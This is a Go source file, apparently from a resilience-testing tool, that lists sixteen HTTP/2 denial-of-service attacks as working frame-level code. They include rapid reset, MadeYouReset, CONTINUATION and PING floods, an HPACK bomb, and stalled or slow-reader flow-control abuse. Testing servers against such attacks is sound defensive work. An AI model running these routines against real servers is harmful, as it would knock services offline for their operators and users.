package main

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackHarms are the attacks on HTTP/2.
var attackHarms = harmsOf(attacks)

func harmsOf(attacks []attack) (harms []harm) {
	for _, a := range attacks {
		harms = append(harms, a.harm())
	}
	return harms
}

// wide are settings that let the server send as much as it likes on a stream,
// narrow that let it send nothing.
var (
	wide   = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
	narrow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
)

// oneField is a field that is in no table and goes into none.
var oneField = []byte("\x00\x01a\x01b")

var attacks = []attack{
	{
		name: "rapid reset", about: "requests that are reset at once", settings: wide,
		round: func(p *attacker, id uint32) {
			p.ask(id, "GET", waitPath)
			p.frames.WriteRSTStream(id, http2.ErrCodeCancel)
		},
	},
	{
		name: "MadeYouReset", about: "requests, and window updates of 0 that make the server reset them", settings: wide,
		round: func(p *attacker, id uint32) {
			p.ask(id, "POST", waitPath)
			p.frames.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4))
		},
	},
	{
		name: "CONTINUATION flood", about: "a head without end, with a field in each frame",
		begin: func(p *attacker) {
			p.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head("GET", waitPath)})
		},
		round: func(p *attacker, _ uint32) { p.frames.WriteContinuation(1, false, oneField) },
	},
	{
		name: "SETTINGS flood", about: "SETTINGS without end",
		round: func(p *attacker, _ uint32) { p.frames.WriteSettings() },
	},
	{
		name: "PING flood", about: "PINGs without end",
		round: func(p *attacker, _ uint32) { p.frames.WritePing(false, [8]byte{}) },
	},
	{
		name: "empty DATA", about: "a body of DATA frames without content",
		begin: func(p *attacker) { p.ask(1, "POST", waitPath) },
		round: func(p *attacker, _ uint32) { p.frames.WriteData(1, false, nil) },
	},
	{
		name: "empty HEADERS", about: "requests without a field",
		round: func(p *attacker, id uint32) {
			p.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true, EndStream: true})
		},
	},
	{
		name: "HPACK bomb", about: "heads of 16 KiB that stand for 64 MiB each",
		begin: func(p *attacker) {
			p.ask(1, "GET", "/hello", hpack.HeaderField{Name: "bomb", Value: strings.Repeat("x", 3900)})
		},
		round: func(p *attacker, id uint32) {
			p.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id + 2, EndHeaders: true, EndStream: true, BlockFragment: bomb})
		},
	},
	{
		name: "stalled windows", about: "100 requests for 1 MiB, and no window for the replies", settings: narrow, lasts: 2,
		begin: func(p *attacker) { p.askMany(100, largePath) },
	},
	{
		name: "tiny windows", about: "a request for 1 MiB, and windows of an octet for the reply", settings: narrow,
		begin: func(p *attacker) { p.askMany(1, largePath) },
		round: func(p *attacker, _ uint32) { p.frames.WriteWindowUpdate(1, 1) },
	},
	{
		name: "slow reader", about: "100 requests for 1 MiB, and wide windows, of which 1 KiB is read in 20 ms", settings: wide, sips: true, lasts: 2,
		begin: func(p *attacker) {
			p.frames.WriteWindowUpdate(0, 1<<30)
			p.askMany(100, largePath)
		},
	},
	{
		name: "no reader", about: "the same, of which nothing is read", settings: wide, deaf: true, lasts: 6,
		begin: func(p *attacker) {
			p.frames.WriteWindowUpdate(0, 1<<30)
			p.askMany(100, largePath)
		},
	},
	{
		name: "too many streams", about: "requests whose replies take for ever",
		round: func(p *attacker, id uint32) { p.ask(id, "POST", waitPath) },
	},
	{
		name: "endless trailer", about: "a trailer without end, with a field in each frame",
		begin: func(p *attacker) {
			p.ask(1, "POST", waitPath)
			p.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndStream: true, BlockFragment: oneField})
		},
		round: func(p *attacker, _ uint32) { p.frames.WriteContinuation(1, false, oneField) },
	},
	{
		name: "PRIORITY_UPDATE flood", about: "priorities of streams that are not open",
		round: func(p *attacker, id uint32) { p.frames.WritePriorityUpdate(id, "u=1") },
	},
	{
		name: "window overflow", about: "window updates beyond what there can be",
		round: func(p *attacker, _ uint32) { p.frames.WriteWindowUpdate(0, 1<<31-1) },
	},
}

// bomb is the newest field of the table again and again.
var bomb = bytes.Repeat([]byte{0xbe}, 16384)

// askMany sends requests, one after the other.
func (p *attacker) askMany(n uint32, path string) {
	for i := range n {
		p.ask(2*i+1, "GET", path)
	}
}
